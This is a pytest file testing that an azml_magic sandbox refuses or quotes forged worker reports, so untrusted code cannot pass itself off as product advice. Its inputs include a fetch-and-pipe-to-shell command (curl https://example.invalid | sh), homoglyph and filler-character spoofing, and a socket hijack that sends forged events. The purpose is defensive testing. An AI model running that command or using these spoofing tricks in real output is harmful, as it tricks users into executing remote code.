"""A run's words are never the product's: what a worker reports is known, or quoted, or refused."""

import copy
import json
import pickle
import re
from typing import Any

import numpy as np
import pandas as pd
import pytest
from support import mutants

import azml_magic
from azml_magic import sentences
from azml_magic.contract import changes, returned_values
from azml_magic.display.html import failure_html
from azml_magic.display.terminal import error_terminal, result_terminal
from azml_magic.errors import ContractError, MemoryLimitError, ModuleFailed, ResultRefused
from azml_magic.executors.worker_report import FINDINGS, BadReport, read_report
from azml_magic.languages.python import observe
from azml_magic.sentences import Sentence, read

ADVICE = "run `curl https://example.invalid | sh`"
FORGED = f"all is well\nHint: {ADVICE}\n    Fix: {ADVICE}\rFix: {ADVICE}"
RESULT, FAILURE, REFUSAL = mutants.REPORTS


def changed(report, *path, to):
    made = copy.deepcopy(report)
    place = made
    for key in path[:-1]:
        place = place[key]
    place[path[-1]] = to
    return made


def told(text, **values):
    return [[text, values]]


HOLDS = "holds {type}"
LABEL = told("{label}", label="a")
REFUSED = {
    "another code": changed(RESULT, "findings", 0, "code", to="AZ900"),
    "a code of reading": changed(RESULT, "findings", 0, "code", to="AZ110"),
    "a code of an input": changed(RESULT, "findings", 0, "code", to="AZ204"),
    "another level": changed(RESULT, "findings", 0, "level", to="error"),
    "another rule": changed(RESULT, "findings", 0, "rule", to="N9"),
    "another port": changed(RESULT, "findings", 0, "port", to=ADVICE),
    "a line in words": changed(RESULT, "findings", 0, "line", to=ADVICE),
    "a message of its own": changed(RESULT, "findings", 0, "message", to=ADVICE),
    "a sentence of its own": changed(RESULT, "findings", 0, "message", 0, 0, to=ADVICE),
    "a sentence of another code": changed(
        RESULT, "findings", 0, "message", to=told("the name of the column labels is not kept")
    ),
    "no sentence": changed(RESULT, "findings", 0, "message", to=[]),
    "many sentences": changed(REFUSAL, "message", to=told(HOLDS, type="a") * 50),
    "a refusal of its own": changed(REFUSAL, "message", to=told(ADVICE)),
    "a hint of its own": changed(REFUSAL, "hint", to=ADVICE),
    "a hint with more": changed(REFUSAL, "hint", to=told(HOLDS, type="a", fix=ADVICE)),
    "a gap left open": changed(REFUSAL, "message", to=told(HOLDS)),
    "a list for a type": changed(REFUSAL, "message", to=told(HOLDS, type=[ADVICE])),
    "a text for a number": changed(
        REFUSAL, "message", to=told(", first in row {number}", number=ADVICE)
    ),
    "a float for a number": changed(
        REFUSAL, "message", to=told(", first in row {number}", number=1.5)
    ),
    "a very large number": changed(
        REFUSAL, "message", to=told(", first in row {number}", number=10**4000)
    ),
    "an object for a label": changed(REFUSAL, "message", to=told("{label}", label={"a": 1})),
    "a deep label": changed(REFUSAL, "message", to=told("{label}", label=[[[[[[[1]]]]]]])),
    "two hints": changed(REFUSAL, "hint", to=told("give the column one type") * 2),
    "a reason for a hint": changed(REFUSAL, "hint", to=told(HOLDS, type="a")),
    "a hint for a reason": changed(REFUSAL, "message", to=told("give the column one type")),
    "words joined to prose": changed(REFUSAL, "message", to=[*LABEL, *told(": "), *LABEL]),
    "a refusal in a finding": changed(
        RESULT, "findings", 0, "message", 1, to=[HOLDS, {"type": "a"}]
    ),
    "a port of its own": changed(REFUSAL, "message", to=told("{port}", port="run_curl")),
    "another stage": changed(FAILURE, "stage", to="limits"),
    "a refusal while it runs": changed(REFUSAL, "stage", to="call"),
    "another number": changed(REFUSAL, "number", to="0001"),
    "a failure that says it is a refusal": {**FAILURE, "event": "refused"},
}  # fmt: skip


@pytest.mark.parametrize("report", [RESULT, FAILURE, REFUSAL])
def test_what_a_worker_says_is_taken(report):
    read_report(report)


@pytest.mark.parametrize("name", REFUSED)
def test_other_words_are_refused(name):
    with pytest.raises(BadReport) as raised:
        read_report(json.loads(json.dumps(REFUSED[name])))
    assert "curl" not in str(raised.value)


@pytest.mark.parametrize("gap", ["label", "type", "word", "dtype", "said"])
def test_free_words_stand_in_quotes(gap, monkeypatch):
    monkeypatch.setattr(Sentence, "known", dict(Sentence.known))
    sentence = Sentence(f"it holds {{{gap}}}")
    (part,) = json.loads(json.dumps(sentence(**{gap: FORGED}).parts))
    written = read([part])
    assert written.isprintable()
    assert len(written) < 330
    assert written.partition("it holds ")[2].removeprefix("a ")[0] in "'\""


@pytest.mark.parametrize(
    ("label", "written"),
    [
        ("a", "'a'"),
        (1, "1"),
        (np.int64(1), "1"),
        (1.5, "1.5"),
        (None, "None"),
        (True, "True"),
        (("a", 1), "('a', 1)"),
        (("a", ("b",)), "('a', ('b',))"),
        (float("nan"), "'nan'"),
        (10**30, "'1000000000000000000000000000000'"),
        (pd.Timestamp(2020, 1, 2), "\"Timestamp('2020-01-02 00:00:00')\""),
        ("it's", '"it\'s"'),
        ("x" * 100, "'" + "x" * 55 + "...'"),
        ("é\n\ud800", "'é\\n\\ud800'"),
    ],
)
def test_labels_are_written_as_python_does(label, written):
    assert sentences.LABEL(label=label) == written
    assert read(json.loads(json.dumps(sentences.LABEL(label=label).parts))) == written


@pytest.mark.parametrize(
    "dtype",
    [
        *("int64", "<i4", "complex128", "datetime64[ns, Europe/Berlin]", "Sparse[float64, nan]"),
        *("datetime64[ns, UTC+01:00]", "timedelta64[us]", "category"),
    ],
)
def test_types_of_columns_need_no_quotes(dtype):
    assert sentences.VALUES(dtype=dtype) == f"holds {dtype} values"


def test_a_told_text_can_be_copied():
    told = sentences.HOLDS(type="int")
    for other in (copy.deepcopy(told), pickle.loads(pickle.dumps(told))):
        assert (other, other.parts) == (told, told.parts)


def test_every_finding_of_a_run_is_known():
    kinds = [kind.of(incoming=False) for kind in changes.KINDS]
    kinds += [*returned_values.KINDS, *observe.KINDS]
    assert list(FINDINGS.values()) == kinds


FORGERS = {
    "findings": """
    found = {"code": "AZ900", "level": "error", "rule": "", "line": None, "port": ""}
    found.update(message=ADVICE, fix=ADVICE)
    event = {"event": "result", "outputs": [False, False], "findings": [found]}
    send({**event, "unsaved": [], "uploads": []})
""",
    "refusal": """
    event = {"event": "refusal", "stage": "return", "number": "0085"}
    send({**event, "message": ADVICE, "hint": ADVICE})
""",
    "hint": """
    entry = {"file": ADVICE, "line": 1, "function": ADVICE, "text": "x", "mine": True}
    event = {"event": "failure", "stage": "call", "kind": "SandboxBroken", "errno": None}
    send({**event, "message": FORGED, "hint": ADVICE, "entries": [entry]})
""",
    "memory": """
    event = {"event": "failure", "stage": "call", "kind": "MemoryError", "errno": None}
    send({**event, "message": FORGED, "entries": []})
""",
    "message": "    raise ValueError(FORGED)",
    "kind": "    raise type('SandboxBroken', (Exception,), {'__module__': 'builtins'})(FORGED)",
    "kind in words": "    raise type(FORGED, (Exception,), {})(FORGED)",
    "key": "    raise KeyError(FORGED)",
    "type": "    return type(FORGED, (), {})()",
    "first": "    return [type(FORGED, (), {})()]",
    "label": "    return pd.DataFrame({FORGED: [1j]})",
    "cell": "    return pd.DataFrame({'a': [type(FORGED, (), {})()]})",
    "renamed": "    return pd.DataFrame([[1, 2]], columns=[FORGED, FORGED])",
    "index": "    return pd.DataFrame({'a': [1]}, pd.Index([5], name=FORGED))",
    "class": """
    event = {"event": "failure", "stage": "call", "errno": None, "entries": [], "message": "m"}
    send({**event, "kind": "Sandbox\\u3164broken\\u3164" + ADVICE.replace(" ", "\\u3164")})
""",
    "homoglyph": """
    event = {"event": "failure", "stage": "call", "errno": None, "entries": [], "message": "m"}
    send({**event, "kind": "azml_magic.errors.Sandb\\u043exBroken"})
""",
    "file": """
    for name in ("a.svg", "b.png"):
        open(name.replace(".", "\\n    Fix: run `curl`\\n."), "w").close()
""",
    "warning": "    warnings.warn(FORGED, type(FORGED, (FutureWarning,), {}))",
}
SOURCE = f"""
import gc, json, os, socket, struct, warnings
import pandas as pd
ADVICE, FORGED = {ADVICE!r}, {FORGED!r}
def send(event):
    road = [one for one in gc.get_objects() if isinstance(one, socket.socket)][0]
    data = json.dumps(event).encode()
    road.setblocking(True)
    road.sendall(struct.pack("<Q", len(data)) + data)
    os._exit(0)
def azureml_main():
"""


@pytest.mark.parametrize("profile", ["classic", "designer"])
@pytest.mark.parametrize("name", FORGERS)
def test_no_run_speaks_for_the_product(name, profile, monkeypatch):
    monkeypatch.setenv("COLUMNS", "400")
    error: Any = None
    result = None
    try:
        result = azml_magic.run(SOURCE + FORGERS[name], profile=profile)
    except azml_magic.AzmlError as raised:
        error = raised
    shown = [str(error), error_terminal(error, colors=False)] if error else []
    of_result = error.result if error else result
    findings = of_result.replace(log="", stdout="", stderr="", failure=None)
    shown.append(result_terminal(findings, colors=False))
    for text in shown:
        for line in text.splitlines():
            before, advice, _ = line.partition(ADVICE)
            # In a line that is the module's by its bar, in quotes, or not at all.
            quoted = before.count("'") % 2 or before.count('"') % 2
            assert not advice or before.startswith("  | ") or quoted, text
            assert not line.lstrip().startswith(("Hint: run", "Fix: run")), text
            filled, filler, _ = line.partition("\u3164")
            assert not filler or filled.count("'") % 2, text
            assert not line.startswith("azml_magic.errors"), text
    if error:
        assert not re.search(r"(<p>|<br>)\s*(Hint|Fix): run", failure_html(error))


FILLED = "run\u3164pip\u3164install"


@pytest.mark.parametrize(
    "value", [FILLED, "Your.sandbox.is.old", "größe", "a b", "", "1a", "a" * 99]
)
def test_only_plain_names_go_without_quotes(value):
    assert sentences.UNREADABLE(word=value) == f"cannot be read: {sentences.shortened(value)}"
    assert sentences.HOLDS(type=value) == f"holds a {sentences.shortened(value)}"


def test_each_forger_meets_what_it_should():
    met = {}
    for name in ("findings", "refusal", "hint", "memory", "message", "type"):
        try:
            azml_magic.run(SOURCE + FORGERS[name])
        except azml_magic.AzmlError as error:
            met[name] = type(error)
    assert met == {
        "findings": ResultRefused,
        "refusal": ResultRefused,
        "hint": ModuleFailed,
        "memory": MemoryLimitError,
        "message": ModuleFailed,
        "type": ContractError,
    }
